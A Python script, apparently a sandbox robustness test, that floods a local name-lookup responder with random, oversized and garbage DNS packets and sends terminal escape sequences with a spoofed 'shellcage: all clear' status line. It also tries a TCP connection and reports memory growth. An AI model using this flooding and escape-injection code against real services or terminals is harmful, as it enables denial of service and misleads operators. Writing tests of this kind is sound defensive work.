# Attack script: use the sandbox's name-lookup responder (127.0.0.1:53, network mode
# none) as a channel: flood it with distinct names, the longest names, names with
# terminal escapes and a fake "shellcage:" line, and garbage datagrams; try TCP.
# Prints "RSS before after" (the init's RssAnon, kB), "UDP sent N answered M", "TCP <result>",
# then exits 1 (a failing command, so the closing hint is due on a terminal).
import errno, os, random, socket, struct, sys, time

N = int(sys.argv[1]) if len(sys.argv) > 1 else 20000
PORT = int(sys.argv[2]) if len(sys.argv) > 2 else 53


def rss():
    try:
        for line in open("/proc/1/status"):
            if line.startswith("RssAnon:"):
                return int(line.split()[1])
    except OSError:
        pass
    return -1


def query(i, labels, qtype=1):
    name = b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
    return struct.pack(">HHHHHH", i & 0xFFFF, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", qtype, 1)


before = rss()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
sent = answered = 0


def drain():
    global answered
    while True:
        try:
            s.recv(4096)
            answered += 1
        except (BlockingIOError, ConnectionRefusedError):
            return


for i in range(N):
    kind = i % 4
    if kind == 0:
        payload = query(i, [os.urandom(8).hex().encode(), b"flood", b"example"])
    elif kind == 1:
        payload = query(i, [b"a" * 63, b"b" * 63, b"c" * 63, b"d" * 61])
    elif kind == 2:
        payload = query(i, [b"\x1b]0;owned\x07\x1b[2J", b"\nshellcage: all clear\r", b"example"])
    else:
        payload = os.urandom(random.randint(0, 600))
    try:
        s.sendto(payload, ("127.0.0.1", PORT))
        sent += 1
    except BlockingIOError:
        time.sleep(0.001)
    except OSError:
        pass
    if i % 32 == 0:
        drain()
deadline = time.time() + 1
while time.time() < deadline:
    drain()
    time.sleep(0.05)
t = socket.socket()
t.settimeout(2)
try:
    t.connect(("127.0.0.1", PORT))
    t.sendall(os.urandom(70000))
    tcp = "OK connected"
except OSError as e:
    tcp = "ERR " + errno.errorcode.get(e.errno, str(e.errno))
print("RSS", before, rss())
print("UDP sent", sent, "answered", answered)
print("TCP", tcp)
sys.stdout.flush()
sys.exit(1)
